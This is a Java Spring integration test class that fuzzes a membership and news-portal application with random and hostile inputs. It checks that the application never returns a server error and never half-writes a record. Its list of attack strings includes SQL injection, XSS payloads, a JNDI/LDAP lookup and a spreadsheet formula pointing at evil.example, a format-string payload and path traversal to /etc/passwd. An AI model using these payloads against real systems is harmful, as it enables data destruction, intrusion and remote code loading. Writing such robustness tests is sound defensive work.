package vn.chibo;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.securityContext;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.security.core.context.SecurityContext;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.RequestBuilder;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Hostile input, generated with jqwik's arbitraries (random strings of every kind, the classic attack strings, huge and
 * empty values, odd numbers and dates, random bytes as files), fed to the member importer, the JSON API and the forms
 * of the running application: never a 500, a refusal names the field it is about with a message, and nothing is
 * half-written (a refused record adds no row; an all-or-nothing import adds all its rows or none).
 *
 * <p>The properties run as JUnit tests inside the shared Spring context (jqwik's own engine knows no Spring context),
 * drawing their samples from jqwik's sample streams; a failure names the input that caused it.
 */
@ChiboIntegrationTest
class HostileInputIntegrationTests {

    static final int TRIES = 40;

    /** Strings an attacker or a careless paste sends: injections, formulas, controls, huge, odd Unicode. */
    static final List<String> CLASSICS = List.of(
            "",
            " ",
            "\u0000",
            "'; DROP TABLE members.member; --",
            "' OR '1'='1",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"http://evil.example\",\"bấm\")",
            "${jndi:ldap://evil.example/a}",
            "%s%s%s%n",
            "../../../../etc/passwd",
            "\u202Egnp.exe",
            "\uD800",
            "Nguyễn\u0301 Thị\u0000Hương",
            "🙂🙂🙂",
            "NaN",
            "-1",
            "99999999999999999999999",
            "31/02/2026",
            "0000-00-00",
            "2026-13-45",
            "1e309",
            "x".repeat(20_000),
            "Đ".repeat(5_000),
            "\r\n\r\n",
            "{\"a\":",
            "null");

    static final Arbitrary<String> HOSTILE = Arbitraries.frequencyOf(
            net.jqwik.api.Tuple.of(4, Arbitraries.of(CLASSICS)),
            net.jqwik.api.Tuple.of(3, Arbitraries.strings().ofMaxLength(300)),
            net.jqwik.api.Tuple.of(
                    2, Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(50)),
            net.jqwik.api.Tuple.of(1, Arbitraries.strings().numeric().ofMaxLength(25)));

    static final Arbitrary<byte[]> BYTES = Arbitraries.frequencyOf(
            net.jqwik.api.Tuple.of(3, Arbitraries.bytes().array(byte[].class).ofMaxSize(4_000)),
            net.jqwik.api.Tuple.of(
                    1,
                    Arbitraries.bytes()
                            .array(byte[].class)
                            .ofMaxSize(2_000)
                            .map(tail -> concat(new byte[] {'P', 'K', 3, 4}, tail))),
            net.jqwik.api.Tuple.of(
                    1,
                    Arbitraries.bytes()
                            .array(byte[].class)
                            .ofMaxSize(2_000)
                            .map(tail -> concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10}, tail))));

    @Autowired
    MockMvc mvc;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    JsonMapper json;

    long branch;
    long seed;
    Random random;
    SecurityContext secretary;
    SecurityContext chief;
    MockHttpSession secretaryPages;

    @BeforeEach
    void setUp() throws Exception {
        branch = DemoFixtures.organizationId(jdbc, DemoFixtures.BITHU_BRANCH);
        seed = System.nanoTime();
        random = new Random(seed);
        secretaryPages = login("bithu");
        secretary = (SecurityContext) secretaryPages.getAttribute("SPRING_SECURITY_CONTEXT");
        chief = (SecurityContext) login("tongbientap").getAttribute("SPRING_SECURITY_CONTEXT");
    }

    @Test
    void theMemberApiRefusesHostileRecordsByFieldAndWritesNothing() throws Exception {
        List<String> fields = List.of(
                "fullName",
                "gender",
                "birthDate",
                "citizenId",
                "ethnicity",
                "religion",
                "homeTown",
                "job",
                "position",
                "admissionDate",
                "ceremonyDate",
                "officialDate",
                "theoryLevel",
                "cardNumber");
        for (Map<String, String> values :
                samples(Arbitraries.maps(Arbitraries.of(fields), HOSTILE).ofMaxSize(fields.size()))) {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("organizationId", branch);
            body.put("fullName", "Phạm Thị Thử Nghiệm");
            body.put("gender", "FEMALE");
            body.put("birthDate", "1986-04-05");
            body.put("admissionDate", "2012-05-10");
            body.putAll(values);
            long before = members();
            MockHttpServletResponse answer = call(post("/api/v1/members")
                    .contentType(MediaType.APPLICATION_JSON)
                    .content(json.writeValueAsString(body))
                    .with(securityContext(secretary)));
            assertRefusedByFieldOrDone(answer, values, 201);
            assertThat(members() - before)
                    .as("rows written for %s ", values)
                    .isEqualTo(answer.getStatus() == 201 ? 1 : 0);
        }
        for (String raw : samples(HOSTILE)) {
            MockHttpServletResponse answer = call(post("/api/v1/members")
                    .contentType(MediaType.APPLICATION_JSON)
                    .content(raw)
                    .with(securityContext(secretary)));
            assertThat(answer.getStatus())
                    .as("malformed body %s ", abbreviated(raw))
                    .isEqualTo(400);
        }
    }

    @Test
    void theImporterNeverFailsAndIsAllOrNothing() throws Exception {
        String header = "Họ và tên,Giới tính,Ngày sinh,Số CCCD,Dân tộc,Ngày vào Đảng\n";
        Arbitrary<String> cell = HOSTILE.map(s -> s.length() > 2_000 ? s.substring(0, 2_000) : s);
        Arbitrary<String> row = cell.list().ofSize(6).map(cells -> {
            List<String> quoted = new ArrayList<>();
            for (String c : cells) {
                quoted.add('"' + c.replace("\"", "\"\"") + '"');
            }
            return String.join(",", quoted) + "\n";
        });
        Arbitrary<String> file = Combinators.combine(
                        row.list().ofMinSize(1).ofMaxSize(6),
                        Arbitraries.of(
                                "Phan Văn Hợp Lệ,Nam,01/02/1981,,Kinh,03/02/2011\n",
                                "Phan Thị Hợp Lệ,Nữ,05/06/1984,,Tày,07/08/2014\n"))
                .as((rows, valid) -> header + valid + String.join("", rows));
        for (String csv : samples(file)) {
            boolean validOnly = random.nextBoolean();
            boolean dryRun = random.nextInt(4) == 0;
            long before = members();
            MockHttpServletResponse answer = call(multipart("/api/v1/members/import")
                    .file(new MockMultipartFile("file", "thu.csv", "text/csv", csv.getBytes(StandardCharsets.UTF_8)))
                    .param("org", Long.toString(branch))
                    .param("dryRun", Boolean.toString(dryRun))
                    .param("validOnly", Boolean.toString(validOnly))
                    .with(securityContext(secretary)));
            String what = "import of " + abbreviated(csv);
            assertThat(answer.getStatus()).as(what).isIn(200, 400);
            long written = members() - before;
            if (answer.getStatus() == 400) {
                assertNamedField(answer, what);
                assertThat(written).as(what).isZero();
                continue;
            }
            JsonNode result = json.readTree(answer.getContentAsString());
            for (JsonNode error : result.get("errors")) {
                assertThat(error.get("row").asInt()).as(what).isPositive();
                assertThat(error.get("message").asString()).as(what).isNotBlank();
            }
            long imported = result.get("imported").asLong();
            long rejected = result.get("rejected").asLong();
            assertThat(written).as("rows written, " + what).isEqualTo(dryRun ? 0 : imported);
            if (!validOnly && rejected > 0) {
                assertThat(written).as("all or nothing, " + what).isZero();
            }
        }
        for (byte[] bytes : samples(BYTES)) {
            long before = members();
            MockHttpServletResponse answer = call(multipart("/api/v1/members/import")
                    .file(new MockMultipartFile("file", "rac.xlsx", "application/octet-stream", bytes))
                    .param("org", Long.toString(branch))
                    .with(securityContext(secretary)));
            assertThat(answer.getStatus()).as("random file ").isIn(200, 400);
            if (answer.getStatus() == 400) {
                assertNamedField(answer, "random file");
            }
            assertThat(members()).isGreaterThanOrEqualTo(before);
        }
    }

    @Test
    void thePortalApiRefusesHostileArticlesByFieldAndWritesNothing() throws Exception {
        List<String> fields = List.of("title", "slug", "lead", "body", "byline", "coverAlt");
        for (Map<String, String> values :
                samples(Arbitraries.maps(Arbitraries.of(fields), HOSTILE).ofMaxSize(fields.size()))) {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("title", "Bài thử đầu vào");
            body.put("lead", "Sapo của bài thử đầu vào.");
            body.put("body", "<p>Nội dung</p>");
            body.putAll(values);
            if (random.nextBoolean()) {
                body.put("tags", List.of(HOSTILE.sample(), HOSTILE.sample()));
            }
            long before = articles();
            MockHttpServletResponse answer = call(post("/api/v1/portal/editor/sites/so-gddt-binh-son/articles")
                    .contentType(MediaType.APPLICATION_JSON)
                    .content(json.writeValueAsString(body))
                    .with(securityContext(chief)));
            assertRefusedByFieldOrDone(answer, values, 201);
            assertThat(articles() - before).as("%s ", values).isEqualTo(answer.getStatus() == 201 ? 1 : 0);
        }
    }

    @Test
    void formsAndNumbersNeverMakeAServerError() throws Exception {
        for (String value : samples(HOSTILE)) {
            String v = value.length() > 3_000 ? value.substring(0, 3_000) : value;
            check(post("/organizations/" + branch + "/edit")
                    .param("name", v)
                    .param("shortName", v)
                    .param("foundedOn", v)
                    .param("type", v)
                    .session(secretaryPages)
                    .with(csrf()));
            check(post("/members/new")
                    .param("organizationId", v)
                    .param("fullName", v)
                    .param("birthDate", v)
                    .param("gender", v)
                    .session(secretaryPages)
                    .with(csrf()));
            check(get("/members")
                    .param("q", v)
                    .param("page", v)
                    .param("size", v)
                    .session(secretaryPages));
            check(get("/api/v1/members")
                    .param("q", v)
                    .param("org", v)
                    .param("page", v)
                    .param("size", v)
                    .with(securityContext(secretary)));
            check(get("/cong/so-gddt-binh-son/tim-kiem").param("q", v).param("trang", v));
            check(get("/meetings")
                    .param("org", v)
                    .param("from", v)
                    .param("to", v)
                    .session(secretaryPages));
        }
        for (long number : samples(Arbitraries.longs())) {
            check(get("/api/v1/members")
                    .param("page", Long.toString(number))
                    .param("size", Long.toString(number))
                    .with(securityContext(secretary)));
            check(get("/organizations/" + number).session(secretaryPages));
            check(get("/api/v1/meetings/" + number).with(securityContext(secretary)));
            check(get("/cong/media/" + number + "/" + number));
        }
        for (byte[] bytes : samples(BYTES)) {
            long site = jdbc.sql("SELECT id FROM portal.site WHERE slug = 'so-gddt-binh-son'")
                    .query(Long.class)
                    .single();
            MockHttpServletResponse answer = call(multipart("/portal/sites/" + site + "/media")
                    .file(new MockMultipartFile("file", HOSTILE.sample(), "image/png", bytes))
                    .param("alt", HOSTILE.sample())
                    .session(login("tongbientap"))
                    .with(csrf()));
            assertThat(answer.getStatus()).as("random media file ").isIn(302, 400);
        }
    }

    private void check(RequestBuilder request) throws Exception {
        MockHttpServletResponse answer = call(request);
        assertThat(answer.getStatus()).as("%s ", request).isLessThan(500);
    }

    private void assertRefusedByFieldOrDone(MockHttpServletResponse answer, Object input, int done) throws Exception {
        String what = abbreviated(String.valueOf(input));
        assertThat(answer.getStatus()).as(what).isIn(done, 400);
        if (answer.getStatus() == 400) {
            assertNamedField(answer, what);
        }
    }

    private void assertNamedField(MockHttpServletResponse answer, String what) throws Exception {
        JsonNode body = json.readTree(answer.getContentAsString(StandardCharsets.UTF_8));
        JsonNode errors = body.get("errors");
        assertThat(errors).as("errors of %s: %s", what, body).isNotNull();
        assertThat(errors.size()).as(what).isPositive();
        assertThat(errors.get(0).get("message").asString()).as(what).isNotBlank();
        if (errors.get(0).has("field")) {
            assertThat(errors.get(0).get("field").asString()).as(what).isNotBlank();
        }
    }

    /** Sends the request; an exception no handler turned into an answer is what the server shows as a 500. */
    private MockHttpServletResponse call(RequestBuilder request) throws Exception {
        try {
            return mvc.perform(request).andReturn().getResponse();
        } catch (jakarta.servlet.ServletException e) {
            throw new AssertionError("500 for " + request + "", e);
        }
    }

    /**
     * TRIES samples of the arbitrary, from jqwik's sample stream (usable outside jqwik's engine: its generators need
     * its own threads). The failing input is named in the assertion's message.
     */
    private static <T> List<T> samples(Arbitrary<T> arbitrary) {
        return arbitrary.sampleStream().limit(TRIES).toList();
    }

    private long members() {
        return jdbc.sql("SELECT count(*) FROM members.member").query(Long.class).single();
    }

    private long articles() {
        return jdbc.sql("SELECT count(*) FROM portal.article").query(Long.class).single();
    }

    private static String abbreviated(String text) {
        return text.length() > 200 ? text.substring(0, 200) + "…" : text;
    }

    private static byte[] concat(byte[] head, byte[] tail) {
        byte[] all = new byte[head.length + tail.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(tail, 0, all, head.length, tail.length);
        return all;
    }

    MockHttpSession login(String username) throws Exception {
        return (MockHttpSession) mvc.perform(post("/login")
                        .param("username", username)
                        .param("password", DemoFixtures.PASSWORD)
                        .with(csrf()))
                .andExpect(redirectedUrl("/"))
                .andReturn()
                .getRequest()
                .getSession(false);
    }
}
